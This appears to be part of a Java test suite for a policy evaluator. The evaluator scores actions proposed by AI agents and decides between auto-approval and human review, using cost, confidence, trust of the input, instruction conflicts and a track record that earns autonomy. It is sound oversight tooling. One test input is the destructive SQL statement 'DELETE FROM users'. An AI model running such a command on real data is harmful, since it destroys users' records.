    void shouldNameTheHighestCostStepPassedInOneReason() {
        // when
        final Evaluation evaluation = evaluate(action("search.web").setEstimatedCost(money("1500.000000000", "EUR")));

        // then
        assertThat(evaluation.reasons())
                .filteredOn(r -> r.startsWith("Costs"))
                .containsExactly("Costs 1500 EUR, above 1000 EUR.");
    }

    @Test
    void shouldCountAMissingConfidenceAsLow() {
        // when
        final Evaluation missing = evaluate(action("file.write").setConfidence(null));
        final Evaluation low = evaluate(action("file.write").setConfidence(0.59));
        final Evaluation enough = evaluate(action("file.write").setConfidence(0.6));

        // then
        assertThat(missing.score()).isCloseTo(0.3, within(1e-9));
        assertThat(missing.reasons()).contains("The agent gave no confidence.");
        assertThat(low.score()).isCloseTo(0.3, within(1e-9));
        assertThat(enough.score()).isCloseTo(0.2, within(1e-9));
    }

    @Test
    void shouldRaiseTheScoreForALargeBatch() {
        // when
        final Evaluation ten = evaluate(action("search.web").setBatchId("b").setBatchSize(10));
        final Evaluation eleven = evaluate(action("search.web").setBatchId("b").setBatchSize(11));

        // then
        assertThat(ten.score()).isCloseTo(0.05, within(1e-9));
        assertThat(eleven.score()).isCloseTo(0.2, within(1e-9));
        assertThat(eleven.reasons()).contains("Part of a batch of 11 actions.");
    }

    @Test
    void shouldRaiseTheScoreForManySystems() {
        // when
        final Evaluation two = evaluate(action("search.web").setSystemsAffected(List.of("a", "b")));
        final Evaluation three = evaluate(action("search.web").setSystemsAffected(List.of("a", "b", "c")));

        // then
        assertThat(two.score()).isCloseTo(0.05, within(1e-9));
        assertThat(three.score()).isCloseTo(0.15, within(1e-9));
        assertThat(three.reasons()).contains("Touches 3 systems (a, b, c).");
    }

    @Test
    void shouldClampTheScoreToOne() {
        // when
        final Evaluation evaluation = evaluate(action("payment.create")
                .setEstimatedCost(money("5000", "EUR"))
                .setConfidence(0.1)
                .setBatchId("b")
                .setBatchSize(100)
                .setSystemsAffected(List.of("a", "b", "c", "d"))
                .setInputTrust(InputTrust.UNKNOWN));

        // then
        assertThat(evaluation.score()).isEqualTo(1.0);
    }

    @Test
    void shouldFireCostAboveWithTheAmountAndThreshold() {
        // when
        final Evaluation over = evaluate(action("search.web").setEstimatedCost(money("1200", "USD")));
        final Evaluation under = evaluate(action("search.web").setEstimatedCost(money("1000", "USD")));

        // then: 1200 USD is 1104 EUR, 1000 USD only 920
        assertThat(trigger(over, "cost-above-1000")).hasValueSatisfying(t -> {
            assertThat(t.value()).isEqualTo("1200 USD");
            assertThat(t.threshold()).contains("1000 EUR");
            assertThat(t.toRecord()).isEqualTo(new Trigger("cost-above-1000", "1200 USD", "1000 EUR", "raise-tier"));
        });
        assertThat(trigger(under, "cost-above-1000")).isEmpty();
    }

    @Test
    void shouldFireConfidenceBelowWithTheConfidenceOrNone() {
        // when
        final Evaluation low = evaluate(action("search.web").setConfidence(0.4));
        final Evaluation missing = evaluate(action("search.web").setConfidence(null));
        final Evaluation atThreshold = evaluate(action("search.web").setConfidence(0.5));

        // then
        assertThat(trigger(low, "confidence-below-0.5")).hasValueSatisfying(t -> {
            assertThat(t.value()).isEqualTo("0.4");
            assertThat(t.threshold()).contains("0.5");
        });
        assertThat(trigger(missing, "confidence-below-0.5"))
                .map(FiredTrigger::value)
                .contains("none");
        assertThat(trigger(atThreshold, "confidence-below-0.5")).isEmpty();
    }

    @Test
    void shouldFireManySystemsAsAGroupReview() {
        // when
        final Evaluation four = evaluate(action("search.web").setSystemsAffected(List.of("a", "b", "c", "d")));
        final Evaluation three = evaluate(action("search.web").setSystemsAffected(List.of("a", "b", "c")));

        // then
        assertThat(trigger(four, "many-systems")).hasValueSatisfying(t -> {
            assertThat(t.value()).isEqualTo("4");
            assertThat(t.threshold()).contains("4");
            assertThat(t.rule().group()).contains("reviewers");
            assertThat(t.rule().quorum()).isEqualTo(2);
            assertThat(t.toRecord().getEffect()).isEqualTo("group-review");
        });
        assertThat(trigger(three, "many-systems")).isEmpty();
    }

    @Test
    void shouldFireOutsideDomainFromTheAgentsProfile() {
        // when
        final Evaluation outside =
                evaluate(action("search.web").setAgentId("billing-agent-7").setDomain("support"));
        final Evaluation inside =
                evaluate(action("search.web").setAgentId("billing-agent-7").setDomain("finance"));
        final Evaluation noProfile =
                evaluate(action("search.web").setAgentId("research-1").setDomain("support"));
        final Evaluation noDomain = evaluate(action("search.web").setAgentId("billing-agent-7"));

        // then
        assertThat(trigger(outside, "outside-domain")).hasValueSatisfying(t -> {
            assertThat(t.value()).isEqualTo("support");
            assertThat(t.threshold()).contains("billing,finance");
        });
        assertThat(trigger(inside, "outside-domain")).isEmpty();
        assertThat(trigger(noProfile, "outside-domain")).isEmpty();
        assertThat(trigger(noDomain, "outside-domain")).isEmpty();
    }

    @Test
    void shouldFireInstructionConflictAndForceAHumanForAnActionThatWouldAutoApprove() {
        // given
        final ProposedAction.Builder conflicted =
                action("search.web").setInstructionConflict("The user said not to look up salaries");

        // when
        final Evaluation evaluation = evaluate(conflicted);
        final Evaluation blank = evaluate(action("search.web").setInstructionConflict("  "));

        // then
        assertThat(trigger(evaluation, "instruction-conflict")).hasValueSatisfying(t -> {
            assertThat(t.value()).isEqualTo("The user said not to look up salaries");
            assertThat(t.rule().effect()).isEqualTo(Policy.TriggerEffect.HALT_AGENT);
        });
        assertThat(evaluation.disposition()).isEqualTo(Disposition.NEEDS_APPROVAL);
        assertThat(blank.triggers()).isEmpty();
        assertThat(blank.disposition()).isEqualTo(Disposition.AUTO_APPROVE);
    }

    @Test
    void shouldHaltEvenAPromotedAgent() {
        // when
        final Evaluation evaluation = evaluate(
                action("file.write").setInstructionConflict("conflicts with the user's last message"), PROMOTED);

        // then
        assertThat(evaluation.disposition()).isEqualTo(Disposition.NEEDS_APPROVAL);
    }

    @ParameterizedTest
    @EnumSource(InputTrust.class)
    void shouldFireLowTrustInputOnlyForLowTrustInput(final InputTrust trust) {
        // when
        final Evaluation evaluation = evaluate(action("search.web").setInputTrust(trust));

        // then
        if (Policy.LOW_TRUST.contains(trust)) {
            assertThat(trigger(evaluation, "low-trust-input"))
                    .map(FiredTrigger::value)
                    .contains(trust.name());
        } else {
            assertThat(trigger(evaluation, "low-trust-input")).isEmpty();
        }
    }

    @ParameterizedTest(name = "approved={0} modified={1} rejected={2} timedOut={3} -> {4}")
    @CsvSource({
        "0, 0, 0, 0, STANDARD",
        "9, 0, 0, 0, STANDARD",
        "10, 0, 0, 0, PROMOTED",
        "19, 0, 1, 0, PROMOTED",
        "10, 0, 0, 5, PROMOTED",
        "18, 0, 2, 0, STANDARD",
        "3, 0, 1, 0, STANDARD",
        "2, 0, 1, 0, DEMOTED",
        "2, 1, 0, 0, DEMOTED",
        "0, 0, 0, 3, STANDARD",
        "15, 0, 5, 0, STANDARD",
        "14, 0, 6, 0, DEMOTED"
    })
    void shouldEarnTheAutonomyLevelOfTheTrackRecord(
            final int approved,
            final int modified,
            final int rejected,
            final int timedOut,
            final AutonomyLevel expected) {
        // given
        final TrustStats stats = stats(approved, modified, rejected, timedOut);

        // when
        final AutonomyLevel level = EVALUATOR.autonomyLevel(stats);

        // then
        assertThat(level).isEqualTo(expected);
    }

    @Test
    void shouldBeStandardWithoutATrackRecord() {
        // when
        final Evaluation evaluation = evaluate(action("search.web"));

        // then
        assertThat(evaluation.autonomyLevel()).isEqualTo(AutonomyLevel.STANDARD);
    }

    @Test
    void shouldLetAPromotedAgentRunAPromotableReversibleWriteThatWouldNeedAHumanOnScore() {
        // given: 0.2 + 0.15 (batch) + 0.1 (confidence) = 0.45, over the 0.35 threshold
        final ProposedAction.Builder write =
                action("file.write").setBatchId("b").setBatchSize(50).setConfidence(0.5);

        // when
        final Evaluation standard = evaluate(write);
        final Evaluation promoted = evaluate(write, stats(12, 0, 0, 0));

        // then
        assertThat(standard.disposition()).isEqualTo(Disposition.NEEDS_APPROVAL);
        assertThat(promoted.autonomyLevel()).isEqualTo(AutonomyLevel.PROMOTED);
        assertThat(promoted.disposition()).isEqualTo(Disposition.AUTO_APPROVE);
        assertThat(promoted.reasons())
                .contains("Promoted: 12 of the agent's last 12 decisions for this action type were approved as"
                        + " proposed.");
    }

    @Test
    void shouldNeverPromoteAnIrreversibleAction() {
        // when
        final Evaluation evaluation = evaluate(action("email.send", "{\"to\":\"bob@example.com\"}"), PROMOTED);

        // then
        assertThat(evaluation.autonomyLevel()).isEqualTo(AutonomyLevel.PROMOTED);
        assertThat(evaluation.disposition()).isEqualTo(Disposition.NEEDS_APPROVAL);
    }

    @Test
    void shouldNeverPromoteAnActionCostingMoreThanTheCap() {
        // given: both over the score threshold, one costing 90 EUR and one 150 EUR (the cap is 100)
        final ProposedAction.Builder underCap =
                action("file.write").setBatchId("b").setBatchSize(50).setEstimatedCost(money("90", "EUR"));
        final ProposedAction.Builder overCap =
                action("file.write").setBatchId("b").setBatchSize(50).setEstimatedCost(money("150", "EUR"));

        // when
        final Evaluation under = evaluate(underCap, PROMOTED);
        final Evaluation over = evaluate(overCap, PROMOTED);

        // then
        assertThat(under.disposition()).isEqualTo(Disposition.AUTO_APPROVE);
        assertThat(over.disposition()).isEqualTo(Disposition.NEEDS_APPROVAL);
    }

    @Test
    void shouldNeverPromoteAnActionInAnUnknownCurrency() {
        // when
        final Evaluation evaluation = evaluate(action("file.write").setEstimatedCost(money("1", "XYZ")), PROMOTED);

        // then
        assertThat(evaluation.disposition()).isEqualTo(Disposition.NEEDS_APPROVAL);
    }

    @Test
    void shouldNeverPromoteAnActionLedByLowTrustInput() {
        // when
        final Evaluation evaluation = evaluate(action("file.write").setInputTrust(InputTrust.TOOL_OUTPUT), PROMOTED);

        // then
        assertThat(evaluation.autonomyLevel()).isEqualTo(AutonomyLevel.PROMOTED);
        assertThat(evaluation.disposition()).isEqualTo(Disposition.NEEDS_APPROVAL);
    }

    @Test
    void shouldNotPromoteAnActionNoRuleMarksPromotable() throws Exception {
        // given: the default policy's search rule, made non-promotable and classed as a write
        final Policy policy = PolicyParser.parse(DefaultPolicy.yaml()
                .replace(
                        "    riskClass: READ_ONLY\n    promotable: true\n    reason: Reads data and changes nothing.",
                        "    riskClass: REVERSIBLE_WRITE\n    reason: Reads data and changes nothing."));
        final ProposedAction action = action("search.web")
                .setBatchId("b")
                .setBatchSize(50)
                .setConfidence(0.1)
                .build();

        // when
        final Evaluation evaluation = new PolicyEvaluator(policy).evaluate(action, Optional.of(PROMOTED));

        // then
        assertThat(evaluation.riskClass()).isEqualTo(RiskClass.REVERSIBLE_WRITE);
        assertThat(evaluation.disposition()).isEqualTo(Disposition.NEEDS_APPROVAL);
    }

    @Test
    void shouldForceAHumanForADemotedAgentEvenWhereTheScoreWouldAutoApprove() {
        // when
        final Evaluation evaluation = evaluate(action("search.web"), DEMOTED);

        // then
        assertThat(evaluation.score()).isCloseTo(0.05, within(1e-9));
        assertThat(evaluation.autonomyLevel()).isEqualTo(AutonomyLevel.DEMOTED);
        assertThat(evaluation.disposition()).isEqualTo(Disposition.NEEDS_APPROVAL);
        assertThat(evaluation.reasons()).anySatisfy(reason -> assertThat(reason).startsWith("Demoted:"));
    }

    private static final Pattern ENUM_NAME = Pattern.compile("\\b[A-Z]+_[A-Z_]+\\b");

    @Test
    void shouldGiveReasonsInPlainSentences() {
        // given: actions that between them produce every kind of reason
        final List<Evaluation> evaluations = List.of(
                evaluate(action("crm.contact.merge")),
                evaluate(action("email.send", "{\"to\":\"x@y.org\"}")
                        .setInputTrust(InputTrust.TOOL_OUTPUT)
                        .setConfidence(null)
                        .setEstimatedCost(money("2000", "EUR"))
                        .setBatchId("b")
                        .setBatchSize(30)
                        .setSystemsAffected(List.of("a", "b", "c"))),
                evaluate(
                        action("search.web").setEstimatedCost(money("5", "ZZZ")).setConfidence(0.1)),
                evaluate(action("file.write").setBatchId("b").setBatchSize(50).setConfidence(0.5), PROMOTED),
                evaluate(action("search.web"), DEMOTED),
                evaluate(action("search.web").setInstructionConflict("conflict")),
                evaluate(sql("DELETE FROM users")));

        // when
        final List<String> reasons =
                evaluations.stream().flatMap(e -> e.reasons().stream()).toList();

        // then
        assertThat(reasons).hasSizeGreaterThan(15).allSatisfy(reason -> {
            assertThat(reason).matches("[A-Z].*[.?]");
            assertThat(ENUM_NAME.matcher(reason).find())
                    .as("enum name in: %s", reason)
                    .isFalse();
            assertThat(reason).doesNotContain("Optional", "null", "{", "Rule[");
        });
    }

    @Test
    void shouldRecordTheEvaluationAsARiskAssessment() {
        // given
        final Evaluation evaluation = evaluate(
                action("email.send", "{\"to\":\"bob@example.com\"}").setEstimatedCost(money("1500", "EUR")),
                stats(1, 0, 0, 0));

        // when
        final RiskAssessment assessment = evaluation.toAssessment(NOW);

        // then
        assertThat(assessment.getRiskClass()).isEqualTo(RiskClass.IRREVERSIBLE);
        assertThat(assessment.getScore()).isCloseTo(1.0, within(1e-9));
        assertThat(assessment.getMatchedRules()).containsExactly("email.send", "outbound.send");
        assertThat(assessment.getReasons()).isEqualTo(evaluation.reasons());
        assertThat(assessment.getTriggers())
                .containsExactly(new Trigger("cost-above-1000", "1500 EUR", "1000 EUR", "raise-tier"));
        assertThat(assessment.getPolicyVersion()).isEqualTo("2026-12-05.2");
        assertThat(assessment.getAutonomyLevel()).isEqualTo(AutonomyLevel.STANDARD);
        assertThat(assessment.getAssessedAt()).isEqualTo(NOW);
    }
}
